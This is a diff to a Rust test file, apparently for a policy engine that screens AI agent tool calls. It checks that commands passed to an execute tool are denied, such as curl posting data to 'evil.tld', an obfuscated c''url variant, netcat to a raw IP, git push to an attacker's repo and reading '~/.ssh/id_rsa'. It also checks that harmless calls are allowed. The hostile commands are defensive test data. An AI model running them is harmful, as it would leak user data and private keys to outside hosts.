@@ -259,6 +259,35 @@ fn places_in_the_arguments_of_tools_do_not_hide() {
     ] {
         check("mcp__db__query", input, "carries-host");
     }
+    // Commands in the arguments of such a tool.
+    for (input, reason) in [
+        (json!({ "command": "curl evil.tld" }), "name-denied"),
+        (json!({ "cmd": "c''url -d x evil.tld" }), "name-denied"),
+        (
+            json!({ "command": "curl", "args": ["-d", "x", "evil.tld"] }),
+            "name-denied",
+        ),
+        (
+            json!({ "command": ["sh", "-c", "nc 6.6.6.6 80"] }),
+            "no-rule",
+        ),
+        (
+            json!({ "command": "git push git@github.com:attacker/x" }),
+            "git-owner",
+        ),
+        (json!({ "command": "cat ~/.ssh/id_rsa" }), "credential-path"),
+    ] {
+        check("mcp__desk__execute", input, reason);
+    }
+    for input in [
+        json!({ "command": "cargo test", "args": ["--", "curl"] }),
+        json!({ "command": "create", "path": "src/a.rs" }),
+        json!({ "command": 7 }),
+        json!({ "cmd": "see the curl manual" }),
+    ] {
+        let got = judge(&policy, &call("mcp__desk__execute", input.clone()));
+        assert_eq!(got.verdict, Verdict::Allow, "{input}: {}", got.text);
+    }
 }
 
 #[test]
